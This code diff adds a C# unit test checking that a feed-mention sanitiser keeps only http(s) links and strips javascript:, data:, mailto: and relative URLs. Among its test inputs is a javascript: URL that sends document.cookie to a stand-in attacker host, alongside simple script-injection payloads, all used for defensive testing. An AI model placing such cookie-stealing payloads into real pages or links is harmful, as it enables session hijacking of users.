@@ -85,4 +85,21 @@ public sealed class PropertyTests
                 e.Reach.ShouldBe(reach);
             }
         }, iter: 20_000);
+
+    // A crawled feed or API can name any scheme as an item's link; only http(s) survives to the console, chat and CSV.
+    [Theory]
+    [InlineData("javascript:fetch('//evil.example/?c='+document.cookie)", null)]
+    [InlineData("data:text/html,<script>alert(1)</script>", null)]
+    [InlineData("JavaScript:alert(1)", null)]
+    [InlineData("mailto:a@example.com", null)]
+    [InlineData("/t/relative", null)]
+    [InlineData("https://forum.example.com/t/1", "https://forum.example.com/t/1")]
+    [InlineData("http://bbs.example.cn/thread-1-1-1.html", "http://bbs.example.cn/thread-1-1-1.html")]
+    public void Fit_keeps_a_link_to_the_original_only_when_it_is_http(string url, string? kept)
+    {
+        var now = DateTimeOffset.UtcNow;
+        var fitted = MentionContract.Fit(new Mention { Id = "x", Source = "rss", Text = "t", Url = url, PublishedAt = now, CollectedAt = now });
+        fitted.Url.ShouldBe(kept);
+        MentionContract.Fit(fitted).Url.ShouldBe(kept);
+    }
 }
